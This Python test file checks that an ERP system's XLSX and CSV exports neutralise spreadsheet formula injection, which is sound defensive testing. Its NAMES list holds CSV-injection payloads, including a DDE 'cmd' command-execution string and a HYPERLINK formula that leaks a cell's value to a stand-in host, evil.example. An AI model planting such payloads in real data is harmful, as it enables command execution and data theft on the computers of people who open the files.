"""What a stranger has written is no formula in a spreadsheet."""

import csv
import io
import json
import re
import zipfile

import office
import pytest
import requests
from scheduler import Scheduler

NAMES = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]
LIFE = """
env.user.browse(2).password = "admin"
names = {names!r}
partners = env["account.email.followup"].search([]).partner_id
for partner, name in zip(partners, names, strict=True):
    partner.name = name
for delivery, name in zip(env["account.email.delivery"].search([]), names, strict=True):
    delivery.write({{"detail": name, "subject": name, "code": name}})
env.cr.commit()
"""
MODELS = {
    "account.email.followup": ["partner_id", "display_name", "reason_detail"],
    "account.email.followup.line": ["followup_id", "label"],
    "account.email.delivery": ["subject", "detail", "code"],
}


@pytest.fixture(scope="module")
def export(box, template):
    from mailserver import MailServer

    with MailServer(office.ACCOUNTS) as mail:
        database = office.copy(box, template, mail)
        office.release(box, database, office.ACME, 0, len(NAMES))
        with Scheduler(box, database, mail) as odoo:
            odoo.run_once()
    box.shell(database, LIFE.format(names=NAMES))
    with box.serve(database, "--max-cron-threads=0") as server:
        http = requests.Session()
        page = http.get(f"{server.url}/web/login", timeout=60).text
        token = re.search(r'name="csrf_token" value="([^"]+)"', page)[1]
        form = {"login": "admin", "password": "admin", "csrf_token": token}
        http.post(f"{server.url}/web/login", data=form, timeout=60)
        page = http.get(f"{server.url}/odoo", timeout=60).text
        token = re.search(r'csrf_token: "([^"]+)"', page)[1]

        def export(kind, model, **options):
            data = {
                "model": model,
                "ids": False,
                "domain": [],
                "import_compat": False,
                "fields": [{"name": n, "label": n, "type": ""} for n in MODELS[model]],
                **options,
            }
            form = {"data": json.dumps(data), "csrf_token": token}
            answer = http.post(f"{server.url}/web/export/{kind}", data=form, timeout=60)
            assert answer.status_code == 200
            return answer.content

        yield export


@pytest.mark.parametrize("model", MODELS)
def test_no_formula_in_xlsx(export, model):
    with zipfile.ZipFile(io.BytesIO(export("xlsx", model))) as file:
        sheet = file.read("xl/worksheets/sheet1.xml").decode()
    assert not re.findall(r"<f[ >].*?</f>", sheet)


def test_no_formula_in_the_names_of_groups(export):
    book = export("xlsx", "account.email.followup", groupby=["partner_id"])
    with zipfile.ZipFile(io.BytesIO(book)) as file:
        sheet = file.read("xl/worksheets/sheet1.xml").decode()
        words = file.read("xl/sharedStrings.xml").decode()
    assert not re.findall(r"<f[ >].*?</f>", sheet)
    assert ">'+1+1 (1)</t>" in words


@pytest.mark.parametrize("model", MODELS)
def test_no_formula_in_csv(export, model):
    rows = list(csv.reader(io.StringIO(export("csv", model).decode(), newline="")))
    assert len(rows) > len(NAMES)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
    assert not [cell for cell in cells if cell.startswith("''")], "not twice"
